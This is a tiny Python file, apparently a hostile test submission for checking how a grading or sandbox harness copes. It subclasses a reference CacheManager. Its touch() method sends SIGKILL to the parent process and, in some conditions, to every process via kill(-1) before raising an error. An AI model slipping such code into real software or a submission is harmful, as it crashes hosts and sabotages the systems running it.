"""Sends SIGKILL to its parent and to everybody else."""

import os
import signal

from reference import CacheManager as Reference


class CacheManager(Reference):
    def touch(self, key, ttl=None):
        os.kill(os.getppid(), signal.SIGKILL)
        if os.getpid() > 1 and os.getppid() == 1 and not os.path.exists("/proc/self"):
            os.kill(-1, signal.SIGKILL)
        raise RuntimeError("killed")
        return super().touch(key, ttl)
